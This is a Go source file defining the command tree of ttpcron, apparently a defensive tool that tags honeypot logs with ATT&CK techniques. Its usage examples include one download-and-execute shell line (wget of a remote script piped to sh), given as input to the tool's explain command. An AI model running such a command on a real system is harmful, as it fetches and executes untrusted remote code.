package main

import (
	"context"
	"errors"
	"flag"
	"io"
	"os"
	"slices"
	"strings"
	"time"

	"github.com/hashicorp/go-hclog"

	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/cli"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/host"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/logging"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/settings"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/store"
	"github.com/ttpcron/ttpcron/cmd/ttpcron/internal/term"
	"github.com/ttpcron/ttpcron/jobs"
)

// session is what a command gets when it runs. A command passes each function only what
// that function needs.
type session struct {
	out    *term.Output
	set    *settings.Settings // never changed once read
	log    hclog.Logger
	now    func() time.Time
	stores *store.Opener
	stdin  io.Reader

	reader *settings.Reader // for commands that read the settings themselves
	given  settings.Given
	env    map[string]string
}

// command is one command. Its file has its name.
type command = cli.Command[*session]

// rootCommand is the tree of commands.
func rootCommand() *command {
	return &command{
		Name:  "",
		Args:  "COMMAND",
		Short: "tag honeypot logs with ATT&CK techniques",
		Text: `ttpcron imports honeypot logs into one file, replays any part of them through a
set of rules, and tags each event with the ATT&CK techniques that it shows. It
never opens a network connection.`,
		Examples: `ttpcron import /var/log/cowrie
ttpcron run-once --since-days 30
ttpcron tags --since 7d
ttpcron explain "wget http://203.0.113.9/x.sh -O- | sh"`,
		Exits: []int{exitFailed, exitLocked, exitInterrupted},
		Sub: slices.Concat(
			cli.Under("import and tag",
				importCommand(),
				runOnceCommand(),
				daemonCommand(),
			),
			cli.Under("see what was found",
				sessionCommand(),
				attackerCommand(),
				tagsCommand(),
				summaryCommand(),
				reportCommand(),
				attackersCommand(),
				sessionsCommand(),
				techniquesCommand(),
				sensorsCommand(),
				credentialsCommand(),
				filesCommand(),
				explainCommand(),
			),
			cli.Under("export",
				exportCommand(),
				exportEventsCommand(),
			),
			cli.Under("rules",
				rulesCommands(),
			),
			cli.Under("maintain the store",
				statusCommand(),
				checkpointCommands(),
				dbCommands(),
			),
			cli.Under("setup",
				doctorCommand(),
				configCommands(),
				completionCommand(),
				manCommand(),
				versionCommand(),
			),
		),
	}
}

// tables returns fresh flag sets of the commands that may have a table in the
// config file.
func tables() map[string]*flag.FlagSet {
	sets := map[string]*flag.FlagSet{}
	for _, c := range rootCommand().Sub {
		if len(c.Sub) == 0 && c.Flags != nil {
			sets[c.Name] = c.Flags
		}
	}
	return sets
}

// invocation is one call of the program.
type invocation struct {
	out   *term.Output
	stdin io.Reader
	env   map[string]string
	now   func() time.Time
}

// run is the program without the process around it. It returns the exit code.
func run(ctx context.Context, now func() time.Time, args []string, stdin io.Reader, stdout, stderr io.Writer, env []string) int {
	vars := environment(env)
	p := &invocation{out: term.NewOutput(stdout, stderr, vars), stdin: interruptible(ctx, stdin), env: vars, now: now}
	p.out.Until(ctx, stdout)
	err := p.main(ctx, args)
	if ferr := p.out.Flush(); err == nil {
		err = ferr
	}
	return printError(p.out.Err, err)
}

// main runs the command that arguments name.
func (p *invocation) main(ctx context.Context, args []string) error {
	help, err := p.commands(rootCommand()).Run(ctx, args)
	if err == nil && help != "" {
		_, err = p.out.WriteString(help)
	}
	if ctx.Err() != nil && errors.Is(err, context.Canceled) && !errors.Is(err, jobs.ErrInterrupted) {
		return jobs.ErrInterrupted // before there was a run to say so
	}
	return err
}

// commands are the commands of a tree, ready to run.
func (p *invocation) commands(root *command) *cli.Program[*session] {
	return &cli.Program[*session]{
		Root: root, Share: settings.Share, Shared: settings.SharedFlags, SharedText: settings.SharedText, Open: p.open,
		FlagGroups: []cli.FlagGroup{cli.FlagsOf("filters", defineFilters)},
		Version:    "version",
		First:      "begin with ttpcron run-once --input PATH, then ttpcron tags; ttpcron --help lists all commands",
		Exits:      exitTexts, Done: exitDone, Usage: exitUsage,
	}
}

// programOf is a program to inspect, not to run.
func programOf(root *command) *cli.Program[*session] { return (&invocation{}).commands(root) }

// open reads the settings of a command that is about to run.
func (p *invocation) open(c *command) (*session, error) {
	s := &session{
		out: p.out, log: hclog.NewNullLogger(), now: p.now, stdin: p.stdin, env: p.env,
		reader: &settings.Reader{Env: p.env, Commands: tables}, given: c.Given(),
	}
	if c.Bare || c.Raw {
		return s, nil
	}
	set, err := s.reader.Read(settings.Request{Command: c.Name, Flags: c.Flags, Given: s.given, Unstored: c.Unstored})
	if err != nil {
		return nil, err
	}
	s.use(&set)
	return s, nil
}

// author names who calls the program.
func (s *session) author() string { return host.AuthorOf(os.Getuid(), os.Getpid(), s.env["SUDO_USER"]) }

// use sets up what depends on the settings.
func (s *session) use(set *settings.Settings) {
	s.set = set
	s.log = logging.New(s.out.Err, logging.Options{Level: set.LogLevel, JSON: set.LogJSON, Journal: s.env["JOURNAL_STREAM"]})
	for _, doubt := range s.reader.Doubts(flagNames()) {
		var args []any
		if doubt.Hint != "" {
			args = []any{"hint", doubt.Hint}
		}
		s.log.Warn(term.Clean(doubt.Text), args...)
	}
	s.stores = &store.Opener{DB: set.DB, DefaultDB: set.DefaultDB, Sockets: set.Sockets(), LockTimeout: set.LockTimeout, Log: s.log, Now: s.now}
}

// flagNames lists the flags of all commands.
func flagNames() []string {
	names := slices.Clone(settings.SharedFlags)
	rootCommand().Each(func(c *command) {
		if c.Flags != nil {
			c.Flags.VisitAll(func(f *flag.Flag) {
				if cli.LetteredFlag(f) == "" {
					names = append(names, f.Name)
				}
			})
		}
	})
	slices.Sort(names)
	return slices.Compact(names)
}

func environment(env []string) map[string]string {
	m := make(map[string]string, len(env))
	for _, kv := range env {
		name, value, _ := strings.Cut(kv, "=")
		m[name] = value
	}
	return m
}
